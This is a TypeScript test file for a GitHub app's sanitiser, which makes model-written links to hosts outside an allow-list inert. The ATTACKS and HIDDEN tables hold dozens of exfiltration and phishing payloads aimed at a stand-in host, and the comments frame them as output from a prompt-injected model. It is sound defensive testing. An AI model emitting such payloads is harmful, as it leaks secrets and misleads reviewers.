import { describe, expect, it } from "vitest";
import { linkPolicy, NOT_ALLOWED_NOTE } from "../../../../../src/shared/github/inert-links.js";
import { neutralise, neutralisePlainText } from "../../../../../src/shared/github/neutralise.js";
import { liveOutsideUrls } from "../../../../support/github/live-text.js";

// The operator allows its docs host beside GitHub; everything else is the attacker's.
const policy = linkPolicy("https://github.com", ["docs.example.com"]);
const ALLOWED = ["github.com", "docs.example.com"];
const SECRET = "c2VjcmV0LXBhY2thZ2U"; // what the attacker wants GitHub's image proxy to fetch

// What a prompt-injected model writes to reach its own host: each must come out with nothing live.
const ATTACKS: Record<string, string> = {
  "markdown image": `![build](https://evil.example/p.png?d=${SECRET})`,
  "image with title": `![x](https://evil.example/p.png "title")`,
  "image in angle brackets": "![x](<https://evil.example/a b.png>)",
  "protocol-relative image": "![x](//evil.example/p.png)",
  "backslash host": "![x](/\\evil.example/p.png) [y](https:/\\evil.example)",
  "userinfo on github.com": "[x](https://github.com@evil.example/) https://github.com@evil.example/",
  "lookalike host": "[x](https://github.com.evil.example/) https://github.com.evil.example/",
  "reference image": `![x][img]\n\n[img]: https://evil.example/r.png?d=${SECRET}`,
  "reference definition indented, titled": '  [a]: <https://evil.example/r> "t"\n[link][a]',
  "footnote-style definition": "[^1]: https://evil.example/f",
  "html img": `<img src="https://evil.example/i.png?d=${SECRET}">`,
  "html img upper case, no quotes": "<IMG SRC=https://evil.example/i.png>",
  "picture source srcset": '<picture><source srcset="https://evil.example/s.png"></picture>',
  "video poster": '<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"></video>',
  "background attribute": '<table background="//evil.example/b.png"><tr><td>x</td></tr></table>',
  "anchor tag": '<a href="https://evil.example/approve">Approve and merge</a>',
  "html comment and cdata": "<!-- x --><![CDATA[ <img src=//evil.example/c> ]]>",
  autolink: "<https://evil.example/auto>",
  "bare URL": "Approve and merge: https://evil.example/approve",
  "bare www": "see www.evil.example/approve",
  "phishing link": "[Approve and merge](https://evil.example/approve)",
  "link text that looks like github": "[https://github.com/o/r/pull/1](https://evil.example/approve)",
  "nested brackets":
    "[[a](https://github.com/x)](https://evil.example/n) [![i](https://evil.example/i.png)](https://github.com/x)",
  "javascript and data URLs":
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](JaVaScRiPt:alert(1))",
  "entity-encoded scheme": "h&#116;tps&#x3a;//evil.example/e &#104;ttps&colon;&sol;&sol;evil.example/f",
  "entity-encoded html": "&lt;img src=https://evil.example/l.png&gt; &#60;img src=//evil.example/m&#62;",
  "entity in destination": "[x](https&#58;//evil.example/d) [y](&#x2F;&#x2F;evil.example/d)",
  "escaped backtick before a span": "\\`![](https://evil.example/k.png)`",
  "span swallowing the link": "`![x](https://github.com/a`](https://evil.example/s)`",
  "fence in a list item ends with it": "- x\n  ```\n<img src=https://evil.example/w.png>\n  ```",
  "tilde fence with backticks inside": "~~~\n```\n~~~\n![](https://evil.example/z.png)",
  "case and spaces": "[x]( HTTPS://EVIL.EXAMPLE/c ) ![y](\nhttps://evil.example/nl.png)",
  "ftp and other schemes": "ftp://evil.example/f xhttps://evil.example/g",
  "crlf line ends": "```\r\nx\r\n```\r\n![](https://evil.example/crlf.png)",
};

// Attacks that read as code to a naive eye (and to liveOutsideUrls) while GitHub renders them live:
// a span that GitHub closes on another line, a fence that a list or quote ends, a table cell split
// at a pipe, a code span GitHub's autolink runs through, a diagram that links. The output must be
// changed, and inert.
const HIDDEN: Record<string, string> = {
  "span across lines": "a `b\nc` ![](https://evil.example/j.png) `d`",
  "code span inside a URL": "https://github.com`.evil.example/ x` y",
  "pipes split a table cell": "| a | b |\n|---|---|\n| `x | ![](https://evil.example/t.png)` | y |",
  "unclosed fence swallows the rest": "```\n<img src=https://evil.example/u.png>",
  "longer closing fence ends it": "```\ncode\n`````\n<img src=https://evil.example/v.png>",
  "fence in a quote ends with it": "> ```\n![](https://evil.example/q.png)\n> ```",
  "mermaid click": '```mermaid\ngraph TD; A-->B; click A "https://evil.example/m"\n```',
};

describe("inertLinks: nothing in the model's text fetches or links outside the allowed hosts", () => {
  for (const [name, attack] of Object.entries(ATTACKS)) {
    it(name, () => {
      // The attack is live as written (so the check below means something)...
      expect(liveOutsideUrls(attack, ALLOWED), attack).not.toEqual([]);
      const safe = neutralise(attack, policy);
      // ...and inert once neutralised, also read again (idempotent in effect).
      expect(liveOutsideUrls(safe, ALLOWED), safe).toEqual([]);
      expect(liveOutsideUrls(neutralise(safe, policy), ALLOWED)).toEqual([]);
      // A reviewer still sees where it pointed.
      expect(safe.toLowerCase()).toMatch(/evil\.example|javascript:/);
    });
  }

  for (const [name, attack] of Object.entries(HIDDEN)) {
    it(`hidden: ${name}`, () => {
      const safe = neutralise(attack, policy);
      expect(safe).not.toBe(attack);
      expect(liveOutsideUrls(safe, ALLOWED), safe).toEqual([]);
    });
  }

  it("shows a URL made inert as code text with a note; links to allowed hosts stay links", () => {
    expect(neutralise(`![build](https://evil.example/p.png?d=${SECRET})`, policy)).toBe(
      `![build]\u200B(\`https://evil.example/p.png?d=${SECRET}\`) ${NOT_ALLOWED_NOTE}`,
    );
    const kept =
      "See [the docs](https://docs.example.com/a), [#3](https://github.com/o/r/issues/3) and https://github.com/o/r.";
    expect(neutralise(kept, policy)).toBe(kept);
    expect(neutralise("[rel](../blob/main/x.py) [top](#how-this-was-tested)", policy)).toBe(
      "[rel](../blob/main/x.py) [top](#how-this-was-tested)",
    );
  });

  it("leaves code as code: a block keeps its text, a span its characters", () => {
    const text =
      "Run:\n\n```python\nprint('<img src=https://evil.example/x.png>')\n```\n\nand `curl https://evil.example`.";
    const safe = neutralise(text, policy);
    expect(safe).toContain("```python\nprint('<img src=https://evil.example/x.png>')\n```");
    expect(safe).toContain("`curl https://evil.example`");
    expect(liveOutsideUrls(safe, ALLOWED)).toEqual([]);
  });

  it("a fence inside the text cannot end the app's text after it", () => {
    const body = `${neutralise("```\nunclosed <img src=//evil.example/x>", policy)}\n\nFixes #1`;
    expect(body.endsWith("```\n\nFixes #1")).toBe(true);
    expect(liveOutsideUrls(body, ALLOWED)).toEqual([]);
  });

  it("defangs URLs in plain text (commit messages) that GitHub would autolink", () => {
    const title = `Fix https://evil.example/p.png?d=${SECRET} and www.evil.example, see https://github.com/o/r`;
    const safe = neutralisePlainText(title, policy);
    expect(safe).not.toMatch(/https?:\/\/evil|www\.evil/);
    expect(safe).toContain("https[:]//evil[.]example/p[.]png");
    expect(safe).toContain("https://github.com/o/r");
  });

  it("the GitHub host is GHE_HOST's when set, with its port", () => {
    const ghe = linkPolicy("http://ghe.internal:8080");
    expect(neutralise("[a](http://ghe.internal:8080/o/r)", ghe)).toBe("[a](http://ghe.internal:8080/o/r)");
    expect(neutralise("[a](https://github.com/o/r)", ghe)).toContain(NOT_ALLOWED_NOTE);
  });
});
